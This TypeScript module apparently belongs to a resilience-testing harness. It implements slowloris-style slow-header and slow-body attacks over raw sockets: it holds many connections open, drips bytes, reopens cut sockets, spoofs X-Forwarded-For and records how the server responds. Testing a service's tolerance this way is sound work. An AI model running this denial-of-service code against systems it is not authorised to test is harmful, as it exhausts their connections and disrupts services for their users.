import net from 'node:net';
import type { Target } from './attacks';

/**
 * Slow clients on raw sockets: `count` at a time, each dripping one byte every `everyMs` (the
 * headers, or a body after complete headers), reopened when the server cuts it, until `deadline`.
 * Records the status the server answered with ("closed" when it just closed the socket) and how
 * long each socket lived.
 */
export async function slowClients(t: Target, kind: 'headers' | 'body', count: number, everyMs: number, deadline: number): Promise<number[]> {
  const { hostname, port } = new URL(t.url);
  const attack = kind === 'headers' ? 'slow headers (slowloris)' : 'slow body';
  const lifetimesMs: number[] = [];
  const head = `POST /v1/events HTTP/1.1\r\nHost: ${hostname}\r\nAuthorization: Bearer ${t.key}\r\nContent-Type: application/json\r\nX-Forwarded-For: 10.10.0.1\r\n`;
  const [upFront, dripped] = kind === 'headers' ? ['', `${head}${'X-Pad: a\r\n'.repeat(500)}\r\n`] : [`${head}Content-Length: 100000\r\n\r\n`, `{"messageId":"${'m'.repeat(99_980)}`];

  const one = () =>
    new Promise<void>((resolve) => {
      const socket = net.connect(Number(port), hostname);
      const opened = Date.now();
      let answer = '';
      let i = 0;
      const timer = setInterval(() => {
        if (i < dripped.length && !socket.destroyed) socket.write(dripped[i++]!);
      }, everyMs);
      socket.on('connect', () => socket.write(upFront));
      socket.on('data', (chunk: Buffer) => (answer += chunk.toString('latin1')));
      socket.on('error', () => undefined);
      socket.on('close', () => {
        clearInterval(timer);
        // Sockets still open at the deadline are ours to end: they were not cut, so they are not counted.
        if (Date.now() < deadline) {
          lifetimesMs.push(Date.now() - opened);
          const status = /^HTTP\/1\.1 (\d{3})/.exec(answer)?.[1];
          const body = answer.split('\r\n\r\n')[1] ?? '';
          t.rec.record(attack, status ? Number(status) : 'closed', Buffer.byteLength(body, 'latin1'));
        }
        resolve();
      });
      setTimeout(() => socket.destroy(), Math.max(0, deadline - Date.now()));
    });

  const loop = async () => {
    while (Date.now() < deadline && !t.rec.exhausted) await one();
  };
  await Promise.all(Array.from({ length: count }, loop));
  return lifetimesMs;
}
